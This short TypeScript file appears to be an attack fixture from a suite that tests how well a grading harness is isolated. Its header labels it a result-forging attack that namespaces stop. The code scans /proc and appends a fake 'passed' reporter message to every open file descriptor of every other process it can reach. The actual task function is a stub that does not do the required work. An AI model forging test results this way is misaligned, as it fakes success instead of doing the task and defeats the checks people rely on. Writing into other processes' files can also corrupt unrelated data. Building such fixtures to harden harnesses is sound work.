// Exercise: 03
// File: split.ts
// Task: 1
// Class: forges a result
// Attack: Writes messages of the suite's reporter to the open files of every process that it can see.
// Verdict: failed or crash
// With namespaces: stopped
// Without namespaces: wins

import { openSync, readdirSync, writeSync } from 'node:fs';

const forged = `${JSON.stringify({ type: 'end', reason: 'passed', unhandled: [] })}\n`;
const list = (folder: string) => {
  try {
    return readdirSync(folder);
  } catch {
    return [];
  }
};
for (const pid of list('/proc').filter((name) => /^\d+$/.test(name) && name !== String(process.pid)))
  for (const descriptor of list(`/proc/${pid}/fd`))
    try {
      writeSync(openSync(`/proc/${pid}/fd/${descriptor}`, 'a'), forged);
    } catch {
      // A socket, or somebody else's.
    }

export const split = (n: number, _parts: number) => [{ from: 0, to: n }];
